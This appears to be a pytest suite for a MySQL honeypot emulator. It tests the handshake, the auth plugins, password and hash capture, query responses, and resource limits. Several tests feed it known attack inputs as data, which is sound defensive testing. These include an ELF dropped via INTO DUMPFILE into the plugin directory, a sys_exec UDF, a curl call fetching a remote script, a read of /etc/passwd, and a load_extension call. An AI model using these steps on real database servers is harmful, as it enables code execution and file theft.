"""MySQL machine fed bytes: handshake, auth plugins, commands, attacks, limits."""

from __future__ import annotations

import hashlib
import struct
from pathlib import Path

import pytest
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding

from muscipula import config as C
from muscipula import services
from muscipula.machine import CaptureData, CaptureEnd, Close, Emit, Peer, Send, StartTLS
from muscipula.protocols.mysql import auth as A
from muscipula.protocols.mysql import wire as w

PEER = Peer("127.0.0.1", 3306, "10.1.2.3", 40000)


def make(tmp_path: Path, preset: str = "debian-12", **svc):
    cfg = C.load(extra={"persona": {"preset": preset}, "services": {"mysql": svc}})
    ctx = services.context("mysql", cfg, tmp_path)
    return services.get("mysql").build(ctx), ctx


def packets(actions) -> list[tuple[int, bytes]]:
    data = b"".join(a.data for a in actions if isinstance(a, Send))
    out = []
    while data:
        n = int.from_bytes(data[:3], "little")
        out.append((data[3], data[4:4 + n]))
        data = data[4 + n:]
    return out


def emits(actions, name):
    return [a.fields for a in actions if isinstance(a, Emit) and a.name == name]


def greeting(payload: bytes) -> dict:
    r = w.Reader(payload)
    assert r.u8() == 10
    version = r.str_null().decode()
    tid = r.u32()
    salt1 = r.take(8)
    r.u8()
    lo = r.u16()
    charset = r.u8()
    status = r.u16()
    hi = r.u16()
    r.u8()
    r.take(10)
    salt2 = r.take(12)
    r.u8()
    plugin = r.str_null().decode()
    return dict(version=version, tid=tid, salt=salt1 + salt2, caps=lo | hi << 16,
                charset=charset, status=status, plugin=plugin)


def response(user: str, auth: bytes, plugin: str, db: str = "", caps: int | None = None,
             seq: int = 1) -> bytes:
    caps = caps if caps is not None else (w.PROTOCOL_41 | w.SECURE_CONNECTION | w.PLUGIN_AUTH
                                          | w.LONG_PASSWORD | w.TRANSACTIONS
                                          | w.PLUGIN_AUTH_LENENC | w.CONNECT_ATTRS
                                          | (w.CONNECT_WITH_DB if db else 0))
    body = struct.pack("<IIB", caps, 1 << 24, 45) + b"\0" * 23 + user.encode() + b"\0"
    body += w.lenenc_str(auth)
    if db:
        body += db.encode() + b"\0"
    body += plugin.encode() + b"\0"
    body += w.lenenc_str(w.lenenc_str(b"_client_name") + w.lenenc_str(b"unit"))
    return w.frame(seq, body)


def login(factory, user="root", password="pw", plugin=A.NATIVE, db=""):
    m = factory(PEER)
    g = greeting(packets(m.start(0.0))[0][1])
    proof = A.native_proof(password, g["salt"]) if plugin == A.NATIVE else \
        A.sha2_proof(password, g["salt"])
    acts = m.receive(response(user, proof, plugin, db), 1.0)
    return m, g, acts


def query(m, sql: str, now: float = 2.0):
    return m.receive(w.frame(0, b"\x03" + sql.encode()), now)


def rows(actions) -> list[list[bytes | None]]:
    """Text-protocol rows of a result set (column defs and EOFs skipped)."""
    pk = [p for _, p in packets(actions)]
    if pk[0][:1] in (b"\x00", b"\xff"):
        raise AssertionError(pk[0])
    n = pk[0][0]
    out = []
    for p in pk[1 + n + 1:]:
        if p[:1] == b"\xfe" and len(p) < 9:
            break
        r = w.Reader(p)
        row = []
        for _ in range(n):
            if p[r.pos] == 0xFB:
                r.pos += 1
                row.append(None)
            else:
                row.append(r.str_lenenc())
        out.append(row)
    return out


def error(actions) -> tuple[int, str, str]:
    p = next(p for _, p in packets(actions) if p[:1] == b"\xff")
    return struct.unpack("<H", p[1:3])[0], p[4:9].decode(), p[9:].decode()


# ------------------------------------------------------------------ handshake


def test_greeting_per_version_thread_ids_and_scrambles(tmp_path):
    factory, ctx = make(tmp_path)
    gs = [greeting(packets(factory(PEER).start(0.0))[0][1]) for _ in range(3)]
    assert gs[0]["version"] == "8.0.40" and gs[0]["plugin"] == A.CACHING_SHA2
    assert gs[0]["caps"] == 0xDFFFFFFF and gs[0]["charset"] == 255 and gs[0]["status"] == 2
    assert [g["tid"] for g in gs] == [ctx.persona.id_base + i for i in range(3)]
    assert len({g["salt"] for g in gs}) == 3
    assert all(b"\0" not in g["salt"] and b"$" not in g["salt"] for g in gs)

    old, _ = make(tmp_path / "w", "windows-2008r2", tls=False)
    g = greeting(packets(old(PEER).start(0.0))[0][1])
    assert g["version"] == "5.5.62" and g["plugin"] == A.NATIVE
    assert g["caps"] == 0x800FF7FF and g["charset"] == 8
    assert all(33 <= b <= 126 for b in g["salt"])


def test_native_login_records_hashcat_form(tmp_path):
    factory, _ = make(tmp_path, auth_plugin="mysql_native_password")
    _m, g, acts = login(factory, "root", "secret")
    assert packets(acts)[-1][1][:1] == b"\x00"
    (rec,) = emits(acts, "login")
    assert rec["username"] == "root" and rec["success"] and rec["password"] is None
    proof = A.native_proof("secret", g["salt"])
    assert rec["extra"]["hash"] == f"$mysqlna${g['salt'].hex()}*{proof.hex()}"
    assert rec["extra"]["attributes"] == {"_client_name": "unit"}


def test_list_policy_checks_native_proof_and_says_1045(tmp_path):
    factory, _ = make(tmp_path, auth_plugin="mysql_native_password",
                      login={"mode": "list", "users": {"root": "toor"}})
    _, _, good = login(factory, "root", "toor")
    assert emits(good, "login")[0]["password"] == "toor"
    _, _, bad = login(factory, "root", "nope")
    assert error(bad) == (1045, "28000",
                          "Access denied for user 'root'@'10.1.2.3' (using password: YES)")
    assert any(isinstance(a, Close) for a in bad)
    assert emits(bad, "login")[0]["success"] is False


def test_refuse_first_n_per_address(tmp_path):
    factory, _ = make(tmp_path, login={"mode": "refuse_first", "refuse_first": 2},
                      auth_plugin="mysql_native_password")
    results = [emits(login(factory)[2], "login")[0]["success"] for _ in range(4)]
    assert results == [False, False, True, True]


def test_caching_sha2_full_auth_rsa_gives_plaintext(tmp_path):
    factory, _ = make(tmp_path)
    m, g, acts = login(factory, "admin", "Winter2024!", plugin=A.CACHING_SHA2)
    assert packets(acts) == [(2, b"\x01\x04")]
    acts = m.receive(w.frame(3, b"\x02"), 1.0)
    (seq, pem), = packets(acts)
    assert seq == 4 and pem.startswith(b"\x01-----BEGIN PUBLIC KEY-----")
    key = serialization.load_pem_public_key(pem[1:])
    masked = bytes(b ^ g["salt"][i % 20] for i, b in enumerate(b"Winter2024!\0"))
    cipher = key.encrypt(masked, padding.OAEP(mgf=padding.MGF1(hashes.SHA1()),
                                              algorithm=hashes.SHA1(), label=None))
    acts = m.receive(w.frame(5, cipher), 1.0)
    assert packets(acts)[-1][0] == 6 and packets(acts)[-1][1][:1] == b"\x00"
    assert emits(acts, "login")[0]["password"] == "Winter2024!"
    # the key is per install, kept in the state dir's secrets
    assert "mysql.rsa_private_key" in (tmp_path / "secrets.json").read_text()


def test_auth_switch_when_client_plugin_differs(tmp_path):
    factory, _ = make(tmp_path)
    m, g, acts = login(factory, "root", "pw", plugin=A.NATIVE)
    (_seq, p), = packets(acts)
    assert p == b"\xfe" + A.CACHING_SHA2.encode() + b"\0" + g["salt"] + b"\0"
    acts = m.receive(w.frame(3, A.sha2_proof("pw", g["salt"])), 1.0)
    assert packets(acts) == [(4, b"\x01\x04")]
    acts = m.receive(w.frame(5, b"pw\0"), 1.0)  # cleartext (as over TLS)
    assert emits(acts, "login")[0]["password"] == "pw"


def test_ssl_request_starts_tls_with_following_bytes(tmp_path):
    factory, _ = make(tmp_path)
    m = factory(PEER)
    m.start(0.0)
    ssl = w.frame(1, struct.pack("<IIB", w.PROTOCOL_41 | w.SSL | w.SECURE_CONNECTION,
                                 1 << 24, 45) + b"\0" * 23)
    acts = m.receive(ssl + b"\x16\x03\x01hello", 1.0)
    assert acts == [StartTLS(b"\x16\x03\x01hello")]
    _, _, _ = m, None, None
    acts = m.receive(response("t", b"tlspw\0"[:0], A.CACHING_SHA2, seq=2), 1.0)
    assert packets(acts)[-1] == (3, packets(acts)[-1][1]) and packets(acts)[-1][1][0] == 0


def test_malformed_handshake_answers_bad_handshake(tmp_path):
    factory, _ = make(tmp_path)
    m = factory(PEER)
    m.start(0.0)
    acts = m.receive(w.frame(1, b"\x05\xa2\x0a\x00garbage"), 1.0)
    assert error(acts)[0] == 1043
    assert emits(acts, "protocol.error")


def test_oversized_packet_is_refused_and_buffer_bounded(tmp_path):
    factory, ctx = make(tmp_path, max_packet=4096)
    m = factory(PEER)
    m.start(0.0)
    acts = m.receive(b"\xff\xff\x00\x01" + b"a" * 5000, 1.0)
    assert error(acts)[0] == 1153 and any(isinstance(a, Close) for a in acts)
    assert m.buffered() <= services.get("mysql").buffer_bound(ctx.config)


# ------------------------------------------------------------------- commands


def test_queries_answer_like_mysql(tmp_path):
    factory, ctx = make(tmp_path)
    m, _, _ = login(factory, plugin=A.CACHING_SHA2, password="")
    assert rows(query(m, "select @@version_comment limit 1")) == \
        [[b"MySQL Community Server - GPL"]]
    (row,) = rows(query(m, "SELECT VERSION(), USER(), DATABASE(), CONNECTION_ID()"))
    assert row == [b"8.0.40", b"root@10.1.2.3", None, str(ctx.persona.id_base).encode()]
    dbs = [r[0] for r in rows(query(m, "SHOW DATABASES"))]
    assert dbs == [b"information_schema", b"mysql", b"performance_schema", b"shop", b"sys",
                   b"wordpress"]
    assert error(query(m, "select * from wp_users")) == (1046, "3D000", "No database selected")
    assert error(query(m, "use nope"))[:2] == (1049, "42000")
    assert packets(m.receive(w.frame(0, b"\x02wordpress"), 3.0))[0][1][0] == 0
    assert [r[0] for r in rows(query(m, "select user_login from wp_users where ID=1"))] == \
        [b"admin"]
    assert error(query(m, "select * from nosuch")) == \
        (1146, "42S02", "Table 'wordpress.nosuch' doesn't exist")
    code, state, msg = error(query(m, "selec 1"))
    assert (code, state) == (1064, "42000") and "near '1' at line 1" in msg
    assert [r[0] for r in rows(query(m, "SHOW VARIABLES LIKE 'version'"))] == [b"version"]
    assert rows(query(m, "select count(*) from information_schema.tables where "
                         "table_schema='shop'")) == [[b"5"]]
    assert error(query(m, "SELECT @@nonexistent"))[0] == 1193
    cmds = emits(query(m, "select 1"), "mysql.command")
    assert cmds == [{"cmd": 3, "args": ["select 1"]}]
    assert packets(m.receive(w.frame(0, b"\x0e"), 4.0))[0][1][0] == 0  # ping
    stats = packets(m.receive(w.frame(0, b"\x09"), 4.0))[0][1]
    assert stats.startswith(b"Uptime: ")
    assert error(m.receive(w.frame(0, b"\x0f"), 4.0))[0] == 1047  # COM_TIME


def test_prepared_statement_binary_protocol(tmp_path):
    factory, _ = make(tmp_path)
    m, _, _ = login(factory, plugin=A.CACHING_SHA2, password="", db="shop")
    acts = m.receive(w.frame(0, b"\x16SELECT id, name, price FROM products WHERE id = ?"), 2.0)
    head = packets(acts)[0][1]
    stmt_id, ncols, nparams = struct.unpack("<IHH", head[1:9])
    assert (ncols, nparams) == (3, 1)
    body = struct.pack("<IBI", stmt_id, 0, 1) + b"\x00\x01" + struct.pack("<H", w.T_LONGLONG) \
        + struct.pack("<q", 2)
    acts = m.receive(w.frame(0, b"\x17" + body), 3.0)
    pk = [p for _, p in packets(acts)]
    row = pk[1 + 3 + 1]
    assert row[0] == 0 and struct.unpack("<q", row[2:10])[0] == 2
    assert emits(acts, "mysql.command")[0]["args"][0].endswith("WHERE id = 2")
    assert error(m.receive(w.frame(0, b"\x17" + struct.pack("<IBI", 99, 0, 1)), 3.0))[0] == 1243


def test_into_dumpfile_captures_payload_and_offers(tmp_path):
    factory, _ = make(tmp_path)
    m, _, _ = login(factory, plugin=A.CACHING_SHA2, password="")
    payload = b"\x7fELF" + bytes(range(256)) * 4
    acts = query(m, f"SELECT 0x{payload.hex()} INTO DUMPFILE '/usr/lib/mysql/plugin/udf.so'")
    url = "mysql://127.0.0.1/usr/lib/mysql/plugin/udf.so"
    assert emits(acts, "download.offer") == [{"url": url, "source": "mysql"}]
    data = b"".join(a.data for a in acts if isinstance(a, CaptureData))
    assert data == payload
    assert [a.url for a in acts if isinstance(a, CaptureEnd)] == [url]
    offer_at = next(i for i, a in enumerate(acts) if isinstance(a, Emit)
                    and a.name == "download.offer")
    assert offer_at < next(i for i, a in enumerate(acts) if isinstance(a, CaptureData))
    acts = query(m, "SELECT UNHEX('4142') INTO DUMPFILE '/usr/lib/mysql/plugin/udf.so'")
    assert error(acts)[0] == 1086
    acts = query(m, "SELECT UNHEX('4142') INTO OUTFILE '/var/www/a.php'")
    assert b"".join(a.data for a in acts if isinstance(a, CaptureData)) == b"AB\n"
    acts = query(m, "CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'udf.so'")
    assert emits(acts, "mysql.udf") == [{"function": "sys_exec", "returns": "INTEGER",
                                         "soname": "udf.so"}]
    acts = query(m, "select sys_exec('curl -o /tmp/x http://203.0.113.9/x.sh')")
    assert rows(acts) == [[b"0"]]
    assert emits(acts, "download.offer")[0]["url"] == "http://203.0.113.9/x.sh"
    acts = query(m, "CREATE FUNCTION other RETURNS STRING SONAME 'missing.so'")
    assert error(acts)[0] == 1126


def test_load_data_local_never_asks_for_client_files(tmp_path):
    factory, _ = make(tmp_path)
    m, _, _ = login(factory, plugin=A.CACHING_SHA2, password="", db="shop")
    acts = query(m, "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE products")
    assert error(acts)[0] == 3948
    assert not any(p[:1] == b"\xfb" for _, p in packets(acts))


# --------------------------------------------------------------------- safety


def test_authorizer_denies_attach_extensions_and_pragma_writes(tmp_path):
    import sqlite3

    factory, _ctx = make(tmp_path)
    m, _, _ = login(factory, plugin=A.CACHING_SHA2, password="")
    backend = m.sql.backend
    for bad in (f"ATTACH DATABASE '{tmp_path}/x.db' AS x", "DETACH shop",
                "SELECT load_extension('/tmp/evil.so')", "PRAGMA shop.max_page_count = 999999",
                "PRAGMA writable_schema = 1"):
        with pytest.raises(sqlite3.DatabaseError, match="not authorized"):
            backend.run(bad)
    assert not (tmp_path / "x.db").exists()
    assert backend.run("PRAGMA shop.table_info(products)").rows
    # the same words through MySQL never reach SQLite as such
    assert error(query(m, f"ATTACH DATABASE '{tmp_path}/y.db' AS y"))[0] == 1064
    assert error(query(m, "select load_extension('x')"))[0] == 1227


def test_progress_handler_bounds_each_statement(tmp_path):
    factory, _ = make(tmp_path, max_statement_steps=200_000)
    m, _, _ = login(factory, plugin=A.CACHING_SHA2, password="")
    acts = query(m, "WITH RECURSIVE r(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM r) "
                    "SELECT count(*) FROM r")
    assert error(acts)[:2] == (3024, "HY000")
    assert rows(query(m, "select 1")) == [[b"1"]]  # the session goes on


def test_row_and_size_caps(tmp_path):
    factory, _ = make(tmp_path, max_rows=5, max_db_bytes=256 * 1024)
    m, _, _ = login(factory, plugin=A.CACHING_SHA2, password="", db="shop")
    got = rows(query(m, "WITH RECURSIVE r(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM r "
                        "WHERE x < 100) SELECT x FROM r"))
    assert len(got) == 5
    query(m, "CREATE TABLE big (b BLOB)")
    acts = []
    for _ in range(40):
        acts = query(m, "INSERT INTO big VALUES (randomblob(16384))")
        if packets(acts)[0][1][:1] == b"\xff":
            break
    assert error(acts)[:2] == (1114, "HY000")


def test_sessions_are_copy_on_write(tmp_path):
    factory, _ctx = make(tmp_path)
    shipped = tmp_path / "mysql" / "shop.sqlite"
    before = hashlib.sha256(shipped.read_bytes()).hexdigest()
    a, _, _ = login(factory, plugin=A.CACHING_SHA2, password="", db="shop")
    b, _, _ = login(factory, plugin=A.CACHING_SHA2, password="", db="shop")
    query(a, "DELETE FROM customers")
    query(a, "DROP TABLE products")
    assert rows(query(a, "select count(*) from customers")) == [[b"0"]]
    assert rows(query(b, "select count(*) from customers")) == [[b"6"]]
    assert rows(query(b, "select count(*) from products")) == [[b"5"]]
    a.closed(5.0)
    assert hashlib.sha256(shipped.read_bytes()).hexdigest() == before


def test_persistent_mode_shares_changes(tmp_path):
    factory, _ = make(tmp_path, persistent=True)
    a, _, _ = login(factory, plugin=A.CACHING_SHA2, password="", db="shop")
    query(a, "DELETE FROM customers WHERE id = 1")
    a.closed(3.0)
    b, _, _ = login(factory, plugin=A.CACHING_SHA2, password="", db="shop")
    assert rows(query(b, "select count(*) from customers")) == [[b"5"]]


def test_fuzz_seeds_never_raise(tmp_path):
    factory, ctx = make(tmp_path)
    spec = services.get("mysql")
    for seed in spec.fuzz_seeds:
        for cut in range(0, len(seed), 7):
            m = factory(PEER)
            m.start(0.0)
            m.receive(seed[:cut], 1.0)
            m.receive(seed[cut:], 1.0)
            assert m.buffered() <= spec.buffer_bound(ctx.config)
            m.closed(2.0)


def test_protocol_error_run_hangs_up(tmp_path):
    factory, _ = make(tmp_path, max_protocol_errors=3)
    m, _, _ = login(factory, plugin=A.CACHING_SHA2, password="")
    acts = m.receive(b"\x00\x00\x00\x00" * 10, 2.0)
    assert [p[1][:3] for p in packets(acts)] == [b"\xff\x17\x04"] * 3  # 1047 each
    assert any(isinstance(a, Close) for a in acts)
